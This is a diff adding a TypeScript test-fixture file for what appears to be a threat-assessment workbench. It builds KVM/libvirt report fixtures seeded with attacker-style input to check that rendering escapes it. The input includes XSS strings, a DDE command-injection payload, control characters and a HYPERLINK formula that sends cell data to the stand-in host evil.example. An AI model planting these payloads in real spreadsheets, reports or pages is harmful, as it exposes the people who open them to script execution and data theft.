@@ -1,0 +1,118 @@
+/**
+ * Report fixtures for tests and benchmarks (never imported by the app): the KVM/libvirt
+ * template with a recorded assessment full of hostile and non-Latin text, and a generated
+ * platform of any size with statuses spread over its items.
+ */
+import kvmTemplate from '../../../threat-catalog/templates/kvm-libvirt.json';
+import { loadBundledCatalog } from '../catalog/catalogSource';
+import type { Catalog } from '../catalog/parseCatalog';
+import { DocumentSchema, assessmentKey, type AssessmentEntry, type WorkbenchDocument } from '../model/schema';
+import { assess } from '../rules/assess';
+import type { Assessment } from '../rules/types';
+import { generateBundledPlatform } from '../../test/fixtures/generatePlatform';
+import { buildReport } from './buildReport';
+import type { ReportModel } from './reportModel';
+
+export const FIXTURE_TIME = '2026-11-28T12:00:00Z';
+
+/** Text an attacker might type: formulas, markup, links, script, control characters, Unicode. */
+export const HOSTILE = {
+  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  plus: '+cmd|\' /C calc\'!A0',
+  at: '@SUM(1+1)*cmd',
+  markup: '<script>alert(1)</script> <img src=x onerror=alert(2)>',
+  link: '[click](javascript:alert(3)) ![x](http://evil.example/p.png)',
+  svg: '</text><svg onload="alert(4)"><text>',
+  unicode: '≤ Контроль 検証 — “quoted”',
+  control: 'bell\u0007 and nul\u0000 end',
+} as const;
+
+export interface ReportFixture {
+  document: WorkbenchDocument;
+  catalog: Catalog;
+  assessment: Assessment;
+  model: ReportModel;
+}
+
+function entry(recommendationId: string, scope: string, status: AssessmentEntry['status'], extra: Partial<AssessmentEntry> = {}): AssessmentEntry {
+  return {
+    recommendationId,
+    scope,
+    status,
+    justification: '',
+    evidence: [],
+    owner: '',
+    dueDate: '',
+    verifiedBy: '',
+    verifiedAt: '',
+    approver: '',
+    approvedAt: '',
+    expiresAt: '',
+    comments: '',
+    updatedAt: FIXTURE_TIME,
+    ...extra,
+  };
+}
+
+/** Assigns statuses to the applicable items of `document` in a fixed rotation. */
+function withStatuses(document: WorkbenchDocument, catalog: Catalog, hostile: boolean): WorkbenchDocument {
+  const applicable = assess(document, catalog).checklist.filter((i) => i.applicability === 'applicable');
+  const assessment: Record<string, AssessmentEntry> = {};
+  const rotation = ['implemented', 'not-implemented', 'partially-implemented', 'risk-accepted', 'not-reviewed', 'implemented'] as const;
+  applicable.forEach((item, i) => {
+    const status = rotation[i % rotation.length]!;
+    const text = hostile ? Object.values(HOSTILE)[i % Object.values(HOSTILE).length]! : `Reviewed item ${i}`;
+    assessment[assessmentKey(item.recommendationId, 'platform')] = entry(item.recommendationId, 'platform', status, {
+      justification: `Justification ${i}: ${text}`,
+      owner: i % 2 === 0 ? `Owner ${text}`.slice(0, 200) : 'Platform team',
+      dueDate: status === 'implemented' ? '' : `2027-0${1 + (i % 9)}-15`,
+      evidence: [{ id: `ev${i}`, kind: i % 3 === 0 ? 'link' : 'note', text: i % 3 === 0 ? 'javascript:alert(1)' : `Evidence ${text}`, addedAt: FIXTURE_TIME }],
+      ...(status === 'risk-accepted' ? { approver: 'CISO', approvedAt: '2026-11-01', expiresAt: '2027-06-30' } : {}),
+    });
+  });
+  // One per-component record, so component-scoped rendering is exercised.
+  const first = applicable[1];
+  const component = first?.components[0];
+  if (first && component) {
+    assessment[assessmentKey(first.recommendationId, component)] = entry(first.recommendationId, component, 'partially-implemented', {
+      justification: `Per component: ${HOSTILE.unicode}`,
+      owner: 'Ops',
+      dueDate: '2027-02-01',
+    });
+  }
+  return { ...document, assessment };
+}
+
+/** The KVM/libvirt template with a hostile, Unicode-rich assessment recorded. */
+export function kvmReportFixture(): ReportFixture {
+  const catalog = loadBundledCatalog();
+  const base = DocumentSchema.parse(kvmTemplate);
+  const named: WorkbenchDocument = {
+    ...base,
+    name: `KVM ${HOSTILE.unicode} =cmd`,
+    scope: {
+      assessor: `A. Assessor ${HOSTILE.markup}`,
+      organisation: 'Example Org ≤ Контроль',
+      description: `${base.scope.description}\n${HOSTILE.link}`,
+      assumptions: `${base.scope.assumptions}\n${HOSTILE.formula}`,
+    },
+    components: {
+      ...base.components,
+      'vm-web': { ...base.components['vm-web']!, name: `web-01 ${HOSTILE.svg}` },
+    },
+  };
+  const document = withStatuses(named, catalog, true);
+  const assessment = assess(document, catalog);
+  const model = buildReport(document, catalog, assessment, { generatedAt: FIXTURE_TIME, generator: 'Hypervisor Threat Workbench test' });
+  return { document, catalog, assessment, model };
+}
+
+/** A generated platform of `size` components (laid out by the report, as it has no positions). */
+export function largeReportFixture(size = 200): ReportFixture {
+  const catalog = loadBundledCatalog();
+  const document = withStatuses({ ...generateBundledPlatform(size), name: `Generated platform (${size} components)` }, catalog, false);
+  const assessment = assess(document, catalog);
+  const model = buildReport(document, catalog, assessment, { generatedAt: FIXTURE_TIME });
+  return { document, catalog, assessment, model };
+}
+
